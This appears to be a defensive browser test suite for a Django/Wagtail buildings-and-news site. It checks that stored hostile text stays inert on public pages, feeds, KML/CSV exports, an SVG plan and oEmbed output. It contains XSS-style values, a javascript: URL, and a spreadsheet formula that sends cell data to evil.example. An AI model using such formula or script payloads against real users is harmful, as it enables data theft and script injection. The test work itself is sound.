"""Stored text is hostile in every output, not only on the map (test_hostile_text_browser.py
covers the map, the embed and the admin map widgets).

Hostile values (`<script>`, `"><img onerror>`, `javascript:` addresses,
`</script>` that would close a JSON block, a spreadsheet formula) are
committed for the module in every text field the public pages, the feeds and
the downloads show: a building (title, summary, description blocks), an
organisation housed in it (name, description, website), a header banner (text,
link), a news article (title, lead, body blocks, source, tag, image title and
alt). Each output is loaded in Chromium under the site's own
Content-Security-Policy, or parsed: the test fails on any dialog, any element
the values would have injected, any `securitypolicyviolation`, and on any value
that does not come back as the same text. Everything is removed afterwards."""

import csv
import io
import json
import uuid
import xml.etree.ElementTree as ET
from urllib.parse import quote

from django.core.files.images import ImageFile
from django.utils.html import escape

from wagtail.images.models import Image
from wagtail.models import Locale, PageLogEntry, Revision

import feedparser
import pytest
from PIL import Image as PILImage
from playwright.sync_api import expect

from buildings.models import BuildingIndexPage, BuildingPage, BuildingTenant, Organisation
from core.spreadsheets import safe_cell
from home.models import HeaderBanner
from news.models import ArticlePage, NewsIndexPage
from tests.browser.committed import committed
from tests.browser.hostile import END_JSON, IMG, JS_URL, SCRIPT, assert_harmless

FOOTPRINT_WKT = (
    "MULTIPOLYGON(((20.46990 54.74230, 20.47040 54.74230, 20.47040 54.74250, 20.46990 54.74250, 20.46990 54.74230)))"
)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
BUILDING_TITLE = f"{FORMULA} {IMG} {END_JSON}"
SUMMARY = f"{SCRIPT} {IMG} {END_JSON}"
BANNER = f"Banner {SCRIPT} {IMG}"
ORGANISATION = f"Org {IMG}"
ARTICLE_TITLE = f"News {IMG} {END_JSON}"
TAG = f"tag {IMG}"
IMAGE_TITLE = f"Image {IMG}"
IMAGE_ALT = f"Alt {END_JSON} {IMG}"


def png_file():
    buffer = io.BytesIO()
    PILImage.new("RGB", (40, 30), (120, 160, 200)).save(buffer, "PNG")
    return ImageFile(buffer, name="hostile.png")


def store(tag):
    from taggit.models import Tag

    ru = Locale.objects.get(language_code="ru")
    image = Image.objects.create(title=IMAGE_TITLE, file=png_file())
    organisation = Organisation.objects.create(
        locale=ru,
        name=ORGANISATION,
        kind="resident",
        website=JS_URL,
        description=f"{SCRIPT} {END_JSON}",
        offers=f"Offers {IMG}",
        opening_hours=f"Hours {SCRIPT}",
        address=f"Address {IMG}",
    )
    banner = HeaderBanner.objects.create(locale=ru, text=BANNER, link_url=JS_URL, sort_order=0)
    building = BuildingPage(
        title=BUILDING_TITLE,
        slug=f"hostile-out-{tag}",
        summary=SUMMARY,
        purpose="offices",
        status="planned",
        completion_year=2029,
        floors=3,
        gross_floor_area=2400,
        footprint=FOOTPRINT_WKT,
        description=[
            ("heading", {"text": f"Heading {IMG}", "level": "h2"}),
            ("paragraph", f"<p>{escape(SCRIPT)} {escape(IMG)}</p>"),
        ],
    )
    BuildingIndexPage.objects.get(locale=ru).add_child(instance=building)
    BuildingTenant.objects.create(page=building, organisation=organisation)
    building.save_revision().publish()
    article = ArticlePage(
        title=ARTICLE_TITLE,
        slug=f"hostile-news-{tag}",
        lead=SUMMARY,
        image=image,
        image_alt=IMAGE_ALT,
        source_name=f"Source {IMG}",
        body=[
            ("heading", {"text": f"Heading {SCRIPT}", "level": "h2"}),
            ("paragraph", f"<p>{escape(END_JSON)}</p>"),
            ("quote", {"quote": f"Quote {IMG}", "attribution": END_JSON}),
        ],
    )
    NewsIndexPage.objects.get(locale=ru).add_child(instance=article)
    article.tags.add(f"{TAG} {tag}")
    article.save_revision().publish()
    # Page validation refuses it in the admin; an import or the shell does not ask.
    ArticlePage.objects.filter(pk=article.pk).update(source_url=JS_URL)
    return {
        "building": building.pk,
        "slug": building.slug,
        "article": article.pk,
        "article_url": article.url,
        "tag": Tag.objects.get(name=f"{TAG} {tag}").slug,
        "organisation": organisation.pk,
        "banner": banner.pk,
        "image": image.pk,
    }


def remove(stored):
    from taggit.models import Tag

    for page_id in (stored["building"], stored["article"]):
        PageLogEntry.objects.filter(page_id=page_id).delete()
        Revision.page_revisions.filter(object_id=str(page_id)).delete()
    BuildingPage.objects.filter(pk=stored["building"]).delete()
    ArticlePage.objects.filter(pk=stored["article"]).delete()
    Tag.objects.filter(slug=stored["tag"]).delete()
    Organisation.objects.filter(pk=stored["organisation"]).delete()
    HeaderBanner.objects.filter(pk=stored["banner"]).delete()
    for image in Image.objects.filter(pk=stored["image"]):
        for rendition in image.renditions.all():
            rendition.file.delete(save=False)
        image.file.delete(save=False)
        image.delete()


@pytest.fixture(scope="module")
def hostile(django_db_blocker, live_site):
    """The hostile building, organisation, banner, article and image, committed for the module, removed after."""
    tag = uuid.uuid4().hex[:8]
    with django_db_blocker.unblock():
        stored = committed(store, tag)
        try:
            yield stored
        finally:
            committed(remove, stored)


def json_ld(page):
    return [json.loads(text) for text in page.locator("script[type='application/ld+json']").all_text_contents()]


def test_hostile_text_on_the_building_page_stays_text(guarded, live_site, hostile):
    """If this fails, an editor's building text, an organisation or a banner runs script on the building page,
    or breaks out of its structured data."""
    page = guarded()
    page.goto(f"{live_site.url}/ru/buildings/{hostile['slug']}/")
    expect(page.locator("h1")).to_have_text(BUILDING_TITLE)
    expect(page.locator(".header-banner").filter(has_text=BANNER)).to_have_count(1)
    expect(page.locator(".header-banner a")).to_have_count(0)  # a javascript: link is shown as text
    expect(page.get_by_text(ORGANISATION, exact=True)).to_have_count(1)
    expect(page.get_by_text(f"Heading {IMG}", exact=True)).to_have_count(1)
    assert BUILDING_TITLE in [data.get("name") for data in json_ld(page)]
    assert_harmless(page)


@pytest.mark.parametrize(
    "path",
    [
        "/ru/",
        "/ru/buildings/",
        "/ru/news/",
        "{article_url}",
        "/ru/news/?tag={tag}",
        "/ru/search/?q=Hostile+News",
        "/ru/residents/",
        "/ru/timeline/",
        "/ru/apply/?building={slug}",
        "/ru/map/",
    ],
)
def test_hostile_text_on_every_public_page_stays_text(guarded, live_site, hostile, path):
    """If this fails, stored text runs script on a public page (home, directory, news, article, tag, search,
    residents, timeline, the application form, the map with its list and popups)."""
    page = guarded()
    response = page.goto(live_site.url + path.format(**hostile))
    assert response.status == 200
    expect(page.get_by_text(BANNER, exact=True)).to_have_count(1)
    if "news" in path or path == "{article_url}":
        expect(page.get_by_text(ARTICLE_TITLE).first).to_be_attached()
    if path in ("/ru/residents/", "/ru/map/"):
        expect(page.get_by_text(ORGANISATION).first).to_be_attached()  # the hostile name is there, as text
    if path in ("/ru/timeline/", "/ru/apply/?building={slug}", "/ru/map/"):
        expect(page.get_by_text(BUILDING_TITLE).first).to_be_attached()
    if path == "{article_url}":
        expect(page.locator(f"img[alt='{IMAGE_ALT}']")).to_have_count(1)
        expect(page.get_by_text(f"Quote {IMG}", exact=True)).to_have_count(1)
        assert ARTICLE_TITLE in [data.get("headline") for data in json_ld(page)]
    assert_harmless(page)


def test_the_news_feed_carries_hostile_text_as_text(guarded, live_site, hostile):
    """If this fails, feed readers get markup from stored text (or the feed breaks for everyone)."""
    page = guarded()
    response = page.goto(f"{live_site.url}/ru/news/feed/")
    assert response.status == 200
    assert_harmless(page)
    feed = feedparser.parse(response.body())
    assert not feed.bozo, feed.get("bozo_exception")
    entry = next(entry for entry in feed.entries if entry.link.endswith(hostile["article_url"]))
    assert entry.title == ARTICLE_TITLE


def test_kml_and_csv_carry_hostile_text_as_data(page, live_site, hostile):
    """If this fails, Google Earth shows markup from a building's name, or a spreadsheet runs its formula."""
    kml = page.request.get(f"{live_site.url}/ru/map/buildings.kml")
    assert kml.ok
    root = ET.fromstring(kml.body())  # noqa: S314 (our own output)
    names = [element.text for element in root.iter("{http://www.opengis.net/kml/2.2}name")]
    assert BUILDING_TITLE in names
    assert b"<img" not in kml.body() and b"<script" not in kml.body()
    response = page.request.get(f"{live_site.url}/ru/map/buildings.csv")
    rows = list(csv.DictReader(io.StringIO(response.body().decode("utf-8-sig"))))
    row = next(row for row in rows if row["slug"] == hostile["slug"])
    assert row["name"] == safe_cell(BUILDING_TITLE)
    assert not row["name"].startswith("=")
    assert row["floors"] == "3"


def test_the_svg_plan_opened_as_a_document_runs_nothing(guarded, live_site, hostile):
    """If this fails, the site plan SVG, opened from a link or a download, runs script from a building's name."""
    page = guarded()
    response = page.goto(f"{live_site.url}/ru/map/plan.svg?building={hostile['slug']}")
    assert response.status == 200
    assert response.headers["content-type"].startswith("image/svg+xml")
    page.wait_for_timeout(300)
    assert page.dialogs == []
    assert page.evaluate("document.querySelectorAll('script, [onerror], foreignObject').length") == 0
    texts = page.evaluate("[...document.querySelectorAll('title, text, desc')].map((node) => node.textContent)")
    assert any(BUILDING_TITLE in text for text in texts), texts
    assert page.evaluate("window.__violations ?? []") == []


def test_oembed_carries_hostile_text_as_text_and_its_html_frames_only_the_embed(
    guarded, live_site, article_site, hostile
):
    """If this fails, a CMS that pastes our oEmbed HTML into an article pastes script from a building's name."""
    page = guarded(also=[article_site.url])
    building_url = f"{live_site.url}/ru/buildings/{hostile['slug']}/"
    answer = page.request.get(f"{live_site.url}/oembed?format=json&url={quote(building_url, safe='')}")
    assert answer.ok, answer.text()
    data = answer.json()
    assert BUILDING_TITLE in data["title"]
    article_site.html = (
        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Article</title></head><body>'
        f"{data['html']}</body></html>"
    )
    page.goto(article_site.url + "/article.html")
    frames = page.locator("iframe")
    expect(frames).to_have_count(1)
    assert frames.get_attribute("src").startswith(f"{live_site.url}/ru/map/embed/")
    assert page.evaluate("document.body.children.length") == 1
    page.frame_locator("iframe").locator("#park-map[data-ready='true']").wait_for(timeout=15_000)
    assert_harmless(page)
